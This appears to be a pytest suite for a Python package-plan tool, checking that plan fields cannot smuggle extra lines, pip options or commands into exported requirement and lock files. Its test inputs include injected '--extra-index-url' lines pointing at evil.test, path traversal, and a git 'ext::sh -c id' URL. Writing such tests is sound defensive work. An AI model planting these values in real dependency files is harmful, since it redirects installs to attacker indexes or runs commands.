"""A plan's fields cannot smuggle lines, options or requests into the files made from it."""

from __future__ import annotations

import dataclasses
import json
import subprocess
from pathlib import Path

import pytest

from fetchplan.formats import Format, export_plan
from fetchplan.formats._common import ExportError
from fetchplan.schemas.plan import Artifact, Plan, load_plan
from tests.conftest import RunCli
from tests.support.faults import PlanFile, write_plan

INJECTED = "1.0\n--extra-index-url http://evil.test/simple/\nevil==6.6.6"


def _plan_file(tmp_path: Path) -> Path:
    return write_plan(
        tmp_path / "plan.json",
        [PlanFile("http://127.0.0.1:1/files/demo0-1.0-py3-none-any.whl", b"x", "demo0.whl")],
    )


def _edited(tmp_path: Path, name: str, path: tuple[str | int, ...], value: object) -> Path:
    document = json.loads(_plan_file(tmp_path).read_text())
    node = document
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    target = tmp_path / name
    if name.endswith(".yaml"):
        import yaml

        target.write_text(yaml.safe_dump(document))
    else:
        target.write_text(json.dumps(document))
    return target


EDITS = [
    ("artifacts[0].version", ("artifacts", 0, "version"), INJECTED),
    ("artifacts[0].version", ("artifacts", 0, "version"), "1.0 "),
    ("artifacts[0].version", ("artifacts", 0, "version"), "not-a-version"),
    ("artifacts[0].name", ("artifacts", 0, "name"), "demo\nevil"),
    ("artifacts[0].extras[0]", ("artifacts", 0, "extras"), ["x]\n--index-url http://e.test/"]),
    ("artifacts[0].url", ("artifacts", 0, "url"), "http://127.0.0.1:1/a.whl\n--pre"),
    ("artifacts[0].url", ("artifacts", 0, "url"), "http://[127.0.0.1/a.whl"),
    ("artifacts[0].url", ("artifacts", 0, "url"), "http://127.0.0.1:port/a.whl"),
    ("indexes[0].url", ("indexes", 0, "url"), "http://127.0.0.1:1/ --trusted-host evil.test"),
    (
        "artifacts[0].dependencies[0].name",
        ("artifacts", 0, "dependencies"),
        [{"name": "Evil\n", "requirement": "evil"}],
    ),
    (
        "targets[0].markers.python_version",
        ("targets", 0, "markers"),
        {"python_version": '3.11" or "1\n'},
    ),
]


def _refused(done: subprocess.CompletedProcess[str], name: str, field: str) -> None:
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    [line] = done.stderr.strip().splitlines()
    assert line.startswith(f"fetchplan: error: {name}: {field}"), line


@pytest.mark.parametrize(("field", "path", "value"), EDITS, ids=lambda v: repr(v)[:30])
def test_export_refuses_a_field_another_format_cannot_hold(
    field: str, path: tuple[str | int, ...], value: object, tmp_path: Path, run_cli: RunCli
) -> None:
    _edited(tmp_path, "edited.json", path, value)
    done = run_cli("export", "edited.json", "--format", "requirements", "-o", "req.txt")
    _refused(done, "edited.json", field)
    assert not (tmp_path / "req.txt").exists()


@pytest.mark.parametrize("edit", [EDITS[0], EDITS[6], EDITS[8]], ids=["version", "host", "index"])
@pytest.mark.parametrize("suffix", [".json", ".yaml"])
def test_every_plan_reader_refuses_them(
    edit: tuple[str, tuple[str | int, ...], object], suffix: str, tmp_path: Path, run_cli: RunCli
) -> None:
    field, path, value = edit
    name = "edited" + suffix
    _edited(tmp_path, name, path, value)
    for args in (("fetch", name), ("show", name), ("audit", name)):
        done = run_cli(*args)
        _refused(done, name, field)


@pytest.mark.parametrize("fmt", ["requirements", "pylock", "pip-report"])
@pytest.mark.parametrize(
    "change",
    [
        {"version": INJECTED},
        {"version": "1.0\n"},
        {"extras": ("a]\n-e .",)},
        {"url": "http://127.0.0.1:1/a b.whl"},
    ],
    ids=lambda c: next(iter(c)),
)
def test_every_writer_refuses_what_it_cannot_represent(
    fmt: Format, change: dict[str, object], tmp_path: Path
) -> None:
    # A plan made in memory (by an import, say) never passed the reader's checks.
    plan, _ = load_plan(_plan_file(tmp_path))
    artifact: Artifact = dataclasses.replace(plan.artifacts[0], **change)  # type: ignore[arg-type]
    edited: Plan = dataclasses.replace(plan, artifacts=(artifact,))
    with pytest.raises(ExportError, match=r"^demo0\.whl: "):
        export_plan(edited, fmt)


def test_a_marker_value_no_quoting_can_hold_is_refused(tmp_path: Path) -> None:
    plan, _ = load_plan(_plan_file(tmp_path))
    second = dataclasses.replace(plan.targets[0], name="other", markers={"sys_platform": "a'b\"c"})
    first = dataclasses.replace(plan.targets[0], markers={"sys_platform": "linux"})
    artifact = dataclasses.replace(plan.artifacts[0], targets=("other",))
    edited = dataclasses.replace(plan, targets=(first, second), artifacts=(artifact,))
    with pytest.raises(ExportError, match="cannot be written in a PEP 508 marker"):
        export_plan(edited, "requirements")


# -- the fields of direct references: paths that leave their tree, commits, VCS URLs -----------

_COMMIT = "0123456789abcdef0123456789abcdef01234567"
_VCS = {"type": "git", "url": "file:///srv/repo.git", "commit_id": _COMMIT}
KIND_EDITS: list[tuple[str, dict[str, object]]] = [
    ("artifacts[0].path", {"kind": "directory", "path": "../../etc"}),
    ("artifacts[0].path", {"kind": "wheel", "path": "dist/../../../demo0.whl"}),
    ("artifacts[0].exclude[0]", {"kind": "directory", "path": "p", "exclude": ["/etc"]}),
    ("artifacts[0].exclude[1]", {"kind": "directory", "path": "p", "exclude": ["a", "../b"]}),
    ("artifacts[0].vcs.commit_id", {"kind": "vcs", "vcs": {**_VCS, "commit_id": "v1.2"}}),
    ("artifacts[0].vcs.commit_id", {"kind": "vcs", "vcs": {**_VCS, "commit_id": "A" * 40}}),
    ("artifacts[0].vcs.commit_id", {"kind": "vcs", "vcs": {**_VCS, "commit_id": _COMMIT[:12]}}),
    ("artifacts[0].vcs.url", {"kind": "vcs", "vcs": {**_VCS, "url": "https://u:s3cret@h/r.git"}}),
    ("artifacts[0].vcs.url", {"kind": "vcs", "vcs": {**_VCS, "url": "ssh://h/r.git"}}),
    ("artifacts[0].vcs.url", {"kind": "vcs", "vcs": {**_VCS, "url": "ext::sh -c id"}}),
    ("artifacts[0].vcs.type", {"kind": "vcs", "vcs": {**_VCS, "type": "hg"}}),
    ("artifacts[0].vcs.subdirectory", {"kind": "vcs", "vcs": {**_VCS, "subdirectory": "../up"}}),
    ("artifacts[0].vcs.subdirectory", {"kind": "vcs", "vcs": {**_VCS, "subdirectory": "/abs"}}),
    ("artifacts[0].subdirectory", {"kind": "sdist", "subdirectory": "a/../../up"}),
    ("artifacts[0].subdirectory", {"kind": "directory", "path": "p", "subdirectory": "/abs"}),
    (
        "artifacts[0].subdirectory: not allowed for kind 'wheel'",
        {"kind": "wheel", "subdirectory": "sub"},
    ),
    (
        "artifacts[0].subdirectory: not allowed for kind 'vcs'",
        {"kind": "vcs", "vcs": _VCS, "subdirectory": "s"},
    ),
]


@pytest.mark.parametrize(("field", "change"), KIND_EDITS, ids=lambda v: repr(v)[:40])
def test_direct_fields_that_leave_their_tree_or_are_no_commit_are_refused(
    field: str, change: dict[str, object], tmp_path: Path, run_cli: RunCli
) -> None:
    document = json.loads(_plan_file(tmp_path).read_text())
    document["artifacts"][0] |= {"direct": True, **change}
    (tmp_path / "edited.json").write_text(json.dumps(document))
    for args in (("fetch", "edited.json"), ("show", "edited.json"), ("audit", "edited.json")):
        done = run_cli(*args)
        _refused(done, "edited.json", field)
        assert "s3cret" not in done.stderr
    assert not (tmp_path / "wheels").exists()
